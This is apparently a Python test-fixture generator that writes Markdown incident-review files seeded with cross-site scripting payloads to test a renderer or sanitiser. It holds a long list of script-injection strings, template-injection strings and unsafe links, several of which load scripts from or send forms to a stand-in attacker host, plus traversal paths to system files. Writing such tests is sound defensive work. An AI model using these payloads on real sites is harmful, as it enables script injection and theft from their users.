"""Archives of reviews that want to be more than text: every field and every section holds something
that some browser, parser or template once ran. The same bytes for the same strings.

What would run sets `window.__xss`, opens a dialog or asks evil.example for something.
"""

import json

RUN = "window.__xss=1"

MARKUP = [
    "<script>window.__xss=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=http://evil.example/x.png>",
    "<img/src=x/onerror=window.__xss=1>",
    "<img src=\"x\" onerror=\"window.__xss=1\">",
    "<img src='x' onerror='alert(1)'>",
    "<svg onload=window.__xss=1>",
    "<svg/onload=alert(1)>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:window.__xss=1\"><text y=20>x</text></a></svg>",
    "<math><mi//xlink:href=\"data:x,<script>window.__xss=1</script>\">",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<iframe src=javascript:window.__xss=1></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=javascript:window.__xss=1></object>",
    "<embed src=javascript:window.__xss=1>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input type=submit></form>",
    "<form><button formaction=javascript:window.__xss=1>x</button></form>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>x</details>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>x</marquee>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div onmouseover=window.__xss=1 style='position:fixed;inset:0'>x</div>",
    "<a href=javascript:window.__xss=1>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
    "<template><script>window.__xss=1</script></template>",
    "<textarea><img src=x onerror=window.__xss=1></textarea>",
    "<title><img src=x onerror=window.__xss=1></title>",
    "<!--><img src=x onerror=window.__xss=1>-->",
    "<!-- --!><img src=x onerror=window.__xss=1> -->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<?xml version=\"1.0\"?><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "</style><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</main></body></html><script>window.__xss=1</script>",
    "\"><script>window.__xss=1</script>",
    "'><script>window.__xss=1</script>",
    "\" onmouseover=\"window.__xss=1\" x=\"",
    "' onfocus='window.__xss=1' autofocus x='",
    "\" autofocus onfocus=window.__xss=1 \"",
    "`onmouseover=window.__xss=1",
    "x onclick=window.__xss=1",
    "\\\"><img src=x onerror=window.__xss=1>",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__xss=1&#62;",
    "&#x3C;script&#x3E;window.__xss=1&#x3C;/script&#x3E;",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "＜script＞window.__xss=1＜/script＞",
    "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
    "{{constructor.constructor('window.__xss=1')()}}",
    "${window.__xss=1}",
    "#{window.__xss=1}",
    "<%= window.__xss=1 %>",
    "{% include 'https://evil.example/' %}",
    "]]>\"';alert(1);//",
    "\");window.__xss=1;//",
    "'});window.__xss=1;//",
    "\u2028window.__xss=1\u2029",
    "*/window.__xss=1/*",
    "__proto__", "constructor", "toString", "hasOwnProperty", "page.main", "page.results",
    "\u202egnp.exe\u202c", "\u2066\u202e|\u2069", "a\u200bb\u00adc\ufeffd", "\x01\x02\x1b[31mred\x1b[0m",
    "\ufdd0\uffff", "Z\u0351\u036b\u0343\u036a\u0302a\u0337l\u0335g\u0340o", "مرحبا <b>بالعالم</b>", "שלום &amp; ברכה",
    "在庫<img src=x onerror=window.__xss=1>同期", "👩‍👩‍👧‍👦 <i>family</i>", "*", "~", ":", "^", "-word", "a:b", "a*b",
]

# (destination, may it be an active link)
LINKS = [
    ("javascript:window.__xss=1", False),
    ("JaVaScRiPt:window.__xss=1", False),
    (" javascript:window.__xss=1", False),
    ("java&#x09;script:window.__xss=1", False),
    ("java&#10;script:window.__xss=1", False),
    ("&#106;avascript:window.__xss=1", False),
    ("javascript&colon;window.__xss=1", False),
    ("javascript%3Awindow.__xss=1", False),
    ("java%0Ascript:window.__xss=1", False),
    ("%6Aavascript:window.__xss=1", False),
    ("&#x01;javascript:window.__xss=1", False),
    ("vbscript:msgbox(1)", False),
    ("data:text/html,<script>window.__xss=1</script>", False),
    ("DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==", False),
    ("file:///etc/passwd", False),
    ("//evil.example/x", False),
    ("/\\evil.example/x", False),
    ("\\\\evil.example\\x", False),
    ("https://good.example@evil.example/", False),
    ("../../../../../etc/passwd", False),
    ("https://good.example/?q=1&r=%22%3E#x", True),
    ("mailto:sre@good.example", True),
]

SECTIONS = ["Summary", "Impact", "Detection", "Resolution", "Contributing factors", "What went well", "What went badly",
            "Lessons learned", "Knowledge gaps", "Open questions"]


def one_line(text):
    """As it may stand in a list item or a table: on one line."""
    return text.replace("\r", " ").replace("\n", " ").replace("\u2028", "\u2028")


def front_matter(string, number, date):
    quoted = json.dumps(string)
    keys = ["owner", "trigger", "detected_by", "facilitator", "organisation", "x-note"]
    lists = ["services", "teams", "tags", "factors", "perspectives", "objectives", "former_ids"]
    lines = ["---", "schema: 1", f"title: {quoted}", "kind: incident", f"status: {'published' if number % 3 else 'closed'}",
             f"date: {date}", "severity: sev2", f"started_at: {date}T09:02:00Z", f"detected_at: {date}T09:05:00Z",
             f"mitigated_at: {date}T09:31:00Z", f"resolved_at: {date}T10:20:00Z", f"impact: {{users: {quoted}}}"]
    lines += [f"{key}: {quoted}" for key in keys] + [f"{key}: [{quoted}]" for key in lists]
    return "\n".join(lines + ["visibility: internal", "---", ""])


def links():
    lines = [f"- [link {number}]({destination})" for number, (destination, _) in enumerate(LINKS)]
    lines += [f"- ![picture {number}]({destination})" for number, (destination, _) in enumerate(LINKS)]
    lines += [f"- <{destination.strip()}>" for destination, _ in LINKS]
    lines += [f"- [reference {number}][r{number}]\n\n[r{number}]: <{destination.strip()}>"
              for number, (destination, _) in enumerate(LINKS)]
    return "\n".join(lines)


def body(strings):
    parts = ["# " + one_line(strings[0])]
    for number, section in enumerate(SECTIONS):
        mine = [one_line(string) for string in strings[number % len(strings):] + strings[:number % len(strings)]]
        parts.append(f"## {section}")
        parts.append("\n".join(f"- {string} applies-to:{number} @kofi" for string in mine))
        parts.append("\n\n".join(mine[:4]))
    mine = [one_line(string) for string in strings]
    parts.append("## Timeline\n\nAll times in UTC.\n\n| Time | Event |\n| --- | --- |")
    parts[-1] += "".join(f"\n| 09:{10 + number % 50} | {string.replace('|', ' ')} |" for number, string in enumerate(mine))
    parts.append("## Action items\n\n" + "\n".join(
        f"- [{'x' if number % 2 else ' '}] {string} due:2026-01-01 @{string.split(' ')[0]} evidence:\"{string}\" type:prevent"
        for number, string in enumerate(mine)))
    parts.append("## Kudos\n\n" + "\n".join(f"- @kofi for {string} consent:yes" for string in mine))
    parts += [f"### {string}" for string in mine]
    parts += [f"```{string}\n{string}\n```" for string in mine]
    parts += [f"[{string}](https://good.example/) ![{string}](x.png \"{string}\") [x](<{string}>)" for string in mine]
    parts += [f"<div>\n{string}\n</div>" for string in mine]
    parts += [f"> {string}" for string in mine]
    parts += [f"**{string}** *{string}* `{string}` ~~{string}~~" for string in mine]
    parts.append("## Links\n\n" + links())
    return "\n\n".join(parts) + "\n"


def write(folder, strings, per_review=16):
    """Reviews below `folder`, each with its share of the strings."""
    for number in range(0, len(strings), per_review):
        mine = strings[number:number + per_review]
        date = f"20{20 + number // per_review % 6}-0{1 + number // per_review % 9}-1{number // per_review % 10}"
        path = folder / f"reviews/{date[:4]}/{date}-case-{number}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        text = front_matter(mine[0], number, date) + body(mine)
        path.write_bytes(text.encode("utf-8", "surrogatepass"))
    # Names of files are texts, too.
    for number, name in enumerate(["a\"onmouseover=\"window.__xss=1", "<img src=x onerror=alert(1)>", "a'b&c#d?e%41",
                                   "javascript:alert(1)"]):
        path = folder / f"reviews/2026/2026-02-0{number + 1}-{name}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(front_matter(name, number, f"2026-02-0{number + 1}") + body([name]), encoding="utf-8")
